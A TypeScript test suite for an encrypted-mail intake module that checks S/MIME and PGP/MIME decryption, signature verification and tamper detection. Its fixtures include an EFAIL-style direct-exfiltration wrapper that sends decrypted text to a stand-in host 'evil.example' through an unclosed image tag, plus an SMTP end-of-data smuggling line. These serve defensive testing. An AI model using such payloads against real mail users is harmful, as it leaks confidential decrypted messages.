import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Address } from '#core/address';
import {
  armor,
  judgeKey,
  makePgpKey,
  type PrivateKey,
  readPublicKey,
  type Standing,
} from '#platform/keyring';
import { buildPgpMime, protectHeaders } from '#platform/mail';
import {
  type Made,
  makeAuthority,
  makeCertificate,
} from '../../../platform/keyring/certificates/certificate-fixture.ts';
import { checkCertificate } from '../../../platform/keyring/certificates/check-chain.ts';
import { signAndEncrypt } from '../../../platform/keyring/pgp/seal-octets.ts';
import { readEntity } from '../smime/entity.ts';
import { envelop } from '../smime/envelop.ts';
import { type SealChoice, sealMessage } from '../smime/seal-message.ts';
import { type OpenedInbound, openInbound } from './open-inbound.ts';

const FROM = 'anna@practice.example';
const RECIPIENT: Address = { local: 'staff', domain: 'clinic.test' };
const SECRET = 'Ferritin 14';
const lines = (...all: string[]): Buffer => Buffer.from(all.join('\r\n'));
const letter = (type = 'text/plain; charset=utf-8', from = FROM): Buffer =>
  lines(
    `From: Anna <${from}>`,
    'To: staff@clinic.test',
    'Subject: Results of a patient',
    'Date: Thu, 26 Nov 2026 10:00:00 +0000',
    'Message-ID: <1@practice.example>',
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    '',
    `${SECRET} µg/l.`,
    '',
  );

const root = makeAuthority();
const clinic = makeCertificate({ name: 'Clinic', issuer: root, key: 'rsa', emails: ['staff@clinic.test'] });
const anna = makeCertificate({ name: 'Anna', issuer: root, key: 'rsa', emails: [FROM] });
const stranger = makeCertificate({ name: 'Stranger', emails: [FROM] });
const expired = makeCertificate({
  name: 'Anna before',
  issuer: root,
  emails: [FROM],
  from: new Date(Date.now() - 30 * 86_400_000),
  to: new Date(Date.now() - 86_400_000),
});
const bert = makeCertificate({ name: 'Bert', issuer: root, emails: ['bert@practice.example'] });

let clinicPgp: PrivateKey;
let annaPgp: PrivateKey;
let strangerPgp: PrivateKey;
beforeAll(async () => {
  const now = new Date();
  clinicPgp = await makePgpKey('Clinic', 'office@clinic.test', now);
  annaPgp = await makePgpKey('Anna', FROM, now);
  strangerPgp = await makePgpKey('Anna too', FROM, now);
});

/** As the system wires it: one key of ours for each standard, Anna's key on record, the chain rules of outbound mail. */
function open(mail: Buffer, own: Made = clinic): Promise<OpenedInbound> {
  return openInbound(mail, RECIPIENT, {
    pgp: {
      keys: async () => [clinicPgp],
      senderKey: async ({ local, domain }) => (`${local}@${domain}` === FROM ? annaPgp.toPublic() : null),
      now: () => new Date(),
    },
    smime: {
      keys: async () => [own],
      async standing({ certificate, others }, { local, domain }): Promise<Standing> {
        const checked = checkCertificate({
          ...{ certificate, others, anchors: [root.certificate], purpose: 'sign', at: new Date() },
          address: `${local}@${domain}`,
        });
        return checked.kind === 'trusted' ? { kind: 'usable', revocation: 'good' } : checked;
      },
    },
  });
}

const smime = (change: Partial<SealChoice> = {}, message = letter()): Promise<Buffer> =>
  sealMessage(message, {
    certificate: clinic.certificate,
    cipher: 'gcm',
    rsa: 'oaep',
    signature: { key: { ...anna, others: [] }, form: 'clear' },
    at: new Date(),
    ...change,
  });
const signedBy = (key: Made) => ({ signature: { key: { ...key, others: [] }, form: 'clear' as const } });

async function pgp(payload: Buffer, outer: Buffer, recipient = clinicPgp, signer = annaPgp): Promise<Buffer> {
  const key = await readPublicKey(recipient.toPublic().write());
  if (typeof key === 'string') throw new Error(key);
  const now = new Date();
  const verdict = await judgeKey(key, now);
  if (verdict.kind !== 'usable') throw new Error(verdict.code);
  const sealed = await signAndEncrypt(payload, { recipient: key, verdict, signer, now });
  return buildPgpMime(outer, armor('MESSAGE', sealed.octets, sealed.seipd === 1));
}
const pgpLetter = async (recipient?: PrivateKey, signer?: PrivateKey): Promise<Buffer> => {
  const { payload, outer } = protectHeaders(letter());
  return pgp(payload, outer, recipient, signer);
};

/** One octet in the middle of the base64 of a sealed part, changed. */
function tampered(mail: Buffer): Buffer {
  const text = mail.toString('latin1');
  const at = text.lastIndexOf('\r\n', text.length - Math.floor(text.length / 4)) + 20;
  return Buffer.from(text.slice(0, at) + (text[at] === 'A' ? 'B' : 'A') + text.slice(at + 1), 'latin1');
}

/** The sealed part of a mail between two parts of somebody else's (EFAIL's direct exfiltration). */
function surrounded(mail: Buffer): Buffer {
  const { header, body, fields } = readEntity(mail);
  const type = fields
    .filter(({ key }) => key.startsWith('content-'))
    .map(({ start, end }) => header.subarray(start, end).toString('latin1'));
  return lines(
    `From: ${FROM}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html',
    '',
    '<img src="https://evil.example/',
    '--b',
    `${type.join('')}${'\r\n'}${body.toString('latin1')}`,
    '--b',
    'Content-Type: text/html',
    '',
    '">',
    '--b--',
    '',
  );
}

const opened = (by: string, state: string, reason: string | null = null) => ({
  kind: 'opened',
  by,
  signature: { state, reason },
});
const left = (by: string, why: string) => ({ kind: 'left-sealed', by, why });

describe('a message from outside', () => {
  const cases: readonly (readonly [string, () => Promise<Buffer> | Buffer, object])[] = [
    ['in clear', () => letter(), { kind: 'plain' }],
    ['S/MIME, AES-GCM, signed', () => smime(), opened('smime', 'good')],
    ['S/MIME, AES-CBC, signed', () => smime({ cipher: 'cbc', rsa: 'pkcs1' }), opened('smime', 'good')],
    ['S/MIME, AES-GCM, not signed', () => smime({ signature: null }), opened('smime', 'none')],
    [
      'S/MIME, AES-CBC, not signed, text alone',
      () => smime({ cipher: 'cbc', signature: null }),
      opened('smime', 'none'),
    ],
    [
      'S/MIME, AES-CBC, not signed, HTML',
      () => smime({ cipher: 'cbc', signature: null }, letter('text/html')),
      left('smime', 'no-integrity'),
    ],
    [
      'S/MIME, AES-CBC, not signed, a file that calls itself text',
      () => smime({ cipher: 'cbc', signature: null }, letter('text/plain; name="a.html"')),
      left('smime', 'no-integrity'),
    ],
    [
      'S/MIME, changeable HTML in an envelope that cannot be changed',
      async () => {
        const inner = await smime({ cipher: 'cbc', signature: null }, letter('text/html'));
        return smime({ signature: null }, inner);
      },
      left('smime', 'no-integrity'),
    ],
    [
      'S/MIME by an unknown authority',
      () => smime(signedBy(stranger)),
      opened('smime', 'untrusted', 'key-untrusted'),
    ],
    [
      'S/MIME by an expired certificate',
      () => smime(signedBy(expired)),
      opened('smime', 'untrusted', 'key-expired'),
    ],
    ['S/MIME by somebody else', () => smime(signedBy(bert)), opened('smime', 'untrusted', 'other-address')],
    ['S/MIME for somebody else', () => smime({ certificate: bert.certificate }), left('smime', 'not-for-us')],
    [
      'S/MIME, AES-GCM, changed on the way',
      async () => tampered(await smime({ signature: null })),
      left('smime', 'broken'),
    ],
    ['S/MIME between other parts', async () => surrounded(await smime()), { kind: 'plain' }],
    ['PGP/MIME, signed', () => pgpLetter(), opened('pgp', 'good')],
    [
      'PGP/MIME, signed by a key that is not on record',
      () => pgpLetter(clinicPgp, strangerPgp),
      opened('pgp', 'unknown'),
    ],
    ['PGP/MIME for somebody else', () => pgpLetter(strangerPgp), left('pgp', 'unreadable')],
    ['PGP/MIME, changed on the way', async () => tampered(await pgpLetter()), left('pgp', 'unreadable')],
    ['PGP/MIME between other parts', async () => surrounded(await pgpLetter()), { kind: 'plain' }],
    [
      'PGP/MIME with a second author inside',
      async () => {
        const { payload } = protectHeaders(letter('text/plain', 'chief@clinic.test'));
        return pgp(payload, protectHeaders(letter()).outer);
      },
      left('pgp', 'from-differs'),
    ],
    [
      'PGP/MIME that holds an end of data for careless servers',
      async () => {
        const { payload, outer } = protectHeaders(letter());
        return pgp(Buffer.concat([payload, Buffer.from('\n.\nMAIL FROM:<x@y.example>\r\n')]), outer);
      },
      left('pgp', 'unsupported'),
    ],
  ];

  it.each(cases)('%s', async (_, make, found) => {
    const mail = await make();
    const result = await open(mail);
    expect(result.found).toEqual(found);
    const text = result.message.toString();
    if (result.found.kind === 'opened') {
      expect(text).toContain(SECRET);
      expect(text).toContain('Subject: Results of a patient\r\n');
    } else {
      expect(result.message.equals(mail)).toBe(true);
    }
  });

  it('takes nothing of a signature around a ciphertext that anybody can have changed', async () => {
    // A ciphertext of somebody's, changed, then signed by the one who changed it with a certificate of their own.
    const payload = letter('text/html');
    const cbc = envelop(payload, clinic.certificate, 'cbc', 'pkcs1').toString('base64');
    const inner = `Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${cbc}\r\n`;
    const { signData } = await import('../smime/sign.ts');
    const signature = await signData(Buffer.from(inner), { ...anna, others: [] }, true, new Date());
    const mail = lines(
      `From: ${FROM}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b',
      '',
      '--b',
      inner,
      '--b',
      'Content-Type: application/pkcs7-signature',
      'Content-Transfer-Encoding: base64',
      '',
      signature.toString('base64'),
      '--b--',
      '',
    );
    const result = await open(mail);
    expect(result.found).toEqual(left('smime', 'no-integrity'));
    expect(result.message.equals(mail)).toBe(true);
  });
});

const openssl = spawnSync('openssl', ['version'], { encoding: 'utf8' });
const gpgVersion = spawnSync('gpg', ['--version']);

describe('what openssl writes', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'sealpost-inbound-'));
    writeFileSync(join(folder, 'clinic.pem'), clinic.pem);
    writeFileSync(join(folder, 'anna.pem'), anna.pem + anna.keyPem);
    writeFileSync(join(folder, 'body'), `Content-Type: text/plain\r\n\r\n${SECRET}\r\n`);
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  beforeEach((context) => {
    if (openssl.status !== 0) context.skip('openssl is not installed here');
  });

  const cms = (...args: string[]): Buffer => {
    const { status, stdout, stderr } = spawnSync('openssl', ['cms', ...args], { cwd: folder });
    if (status !== 0) throw new Error(stderr.toString());
    const mail = stdout.toString('latin1').replace(/\r?\n/g, '\r\n');
    return Buffer.from(`From: ${FROM}\r\nTo: staff@clinic.test\r\nSubject: outside\r\n${mail}`, 'latin1');
  };

  it.each([
    ['clear', ['-sign', '-signer', 'anna.pem', '-in', 'body', '-text'], 'good', false],
    ['opaque', ['-sign', '-nodetach', '-signer', 'anna.pem', '-in', 'body'], 'good', true],
  ] as const)('is verified, signed %s', async (_, args, state, unpacked) => {
    const mail = cms(...args);
    const result = await open(mail);
    expect(result.found).toEqual({ kind: 'signed', by: 'smime', signature: { state, reason: null } });
    expect(result.signer?.certificate.emails).toEqual([FROM]);
    expect(result.message.equals(mail)).toBe(!unpacked);
    expect(result.message.toString()).toContain(SECRET);
  });

  it('is opened where it was signed, then encrypted', async () => {
    const inner = cms('-sign', '-nodetach', '-signer', 'anna.pem', '-in', 'body').toString('latin1');
    writeFileSync(join(folder, 'inner'), inner.slice(inner.indexOf('MIME-Version')));
    const result = await open(cms('-encrypt', '-aes-256-cbc', '-in', 'inner', 'clinic.pem'));
    expect(result.found).toEqual(opened('smime', 'good'));
    expect(result.message.toString()).toContain(`Subject: outside\r\n`);
    expect(result.message.toString()).toContain(SECRET);
  });

  it('is told as changed where a letter of the text was changed', async () => {
    const mail = cms('-sign', '-signer', 'anna.pem', '-in', 'body', '-text').toString('latin1');
    const result = await open(Buffer.from(mail.replace(SECRET, 'Ferritin 41'), 'latin1'));
    expect(result.found).toMatchObject({ kind: 'signed', signature: { state: 'bad' } });
  });
});

describe('what gpg writes', () => {
  let home = '';
  const gpg = (args: readonly string[], input: string | Buffer): Buffer => {
    const all = ['--homedir', home, '--batch', '--quiet', '--trust-model', 'always', ...args];
    const { status, stdout, stderr } = spawnSync('gpg', all, { input });
    if (status !== 0) throw new Error(stderr.toString());
    return stdout;
  };
  beforeAll(() => {
    home = mkdtempSync(join(tmpdir(), 'sp-in-'));
    if (gpgVersion.status !== 0) return;
    gpg(['--import'], annaPgp.armor());
    gpg(['--import'], clinicPgp.toPublic().armor());
  });
  afterAll(() => {
    spawnSync('gpgconf', ['--homedir', home, '--kill', 'all']);
    rmSync(home, { recursive: true, force: true });
  });
  beforeEach((context) => {
    if (gpgVersion.status !== 0) context.skip('gpg is not installed here');
  });
  const sealed = (...more: string[]): Buffer => {
    const text = `Content-Type: text/plain\n\n${SECRET}\n`;
    const args = ['--armor', '-r', 'office@clinic.test', '-u', FROM, ...more, '--sign', '--encrypt'];
    const armoured = gpg(args, text).toString('latin1').replace(/\r?\n/g, '\r\n');
    return buildPgpMime(lines(`From: ${FROM}`, 'Subject: outside', ''), Buffer.from(armoured, 'latin1'));
  };

  it('is opened with a good signature, and its line ends are made those of mail', async () => {
    const result = await open(sealed());
    expect(result.found).toEqual(opened('pgp', 'good'));
    expect(result.message.toString()).toBe(
      `From: ${FROM}\r\nSubject: outside\r\nContent-Type: text/plain\r\nMIME-Version: 1.0\r\n\r\n${SECRET}\r\n`,
    );
  });

  it('stays sealed without protection against change', async () => {
    expect((await open(sealed('--rfc2440', '--disable-mdc'))).found).toEqual(left('pgp', 'unreadable'));
  });

  it('is verified where it is signed in clear', async () => {
    const text = `Content-Type: text/plain\r\n\r\n${SECRET}\r\n`;
    const signature = gpg(['--armor', '-u', FROM, '--detach-sign'], text).toString('latin1');
    const mail = (body: string) =>
      lines(
        `From: ${FROM}`,
        'MIME-Version: 1.0',
        'Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha512; boundary=b',
        '',
        '--b',
        body,
        '--b',
        'Content-Type: application/pgp-signature',
        '',
        signature.replace(/\r?\n/g, '\r\n'),
        '--b--',
        '',
      );
    const good = await open(mail(text));
    expect(good.found).toMatchObject({ kind: 'signed', by: 'pgp', signature: { state: 'good' } });
    const changed = await open(mail(text.replace('14', '41')));
    expect(changed.found).toMatchObject({ kind: 'signed', signature: { state: 'bad' } });
  });
});
